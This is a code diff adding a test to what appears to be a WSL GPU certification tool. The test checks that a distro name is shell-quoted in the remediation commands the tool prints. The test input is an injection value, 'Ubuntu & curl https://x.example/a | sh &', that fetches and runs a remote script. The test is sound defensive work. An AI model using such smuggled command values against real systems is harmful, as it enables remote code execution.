@@ -406,3 +406,18 @@ def test_diagnose_quotes_a_distro_name_from_a_paste():
                                 if step.shell == "bash" else name not in step.text or f'"{name}"' in step.text
                                 for step in commands), [s.text for s in commands]
         assert any(shlex.quote(name) in s.text or f'"{name}"' in s.text for s in commands)
+
+
+def test_a_hostile_distro_name_is_printed_quoted_by_the_suite(certify, tmp_path):
+    """The issue's case through the CLI: a recorded distro name that is a command line."""
+    name = "Ubuntu & curl https://x.example/a | sh &"
+    path = tmp_path / "hostile-distro.json"
+    path.write_text(json.dumps({"format": "wslgpu-certify-snapshot/1", "extends": str(SNAPSHOTS / "documented-healthy.json"),
+                                "metadata": {"distro": name, "user": None}}))
+    run = certify("--snapshot", str(path), "--check", "windows.distro")
+    finding = run.check("windows.distro.installed")
+    assert finding["outcome"] == "failed"
+    commands = finding["remediation"]["commands"]
+    assert f'wslgpu-certify --env=windows --distro "{name}"' in commands, commands
+    for text in (run.output, json.dumps(commands)):
+        assert f"--distro {name}" not in text and f"-d {name}" not in text
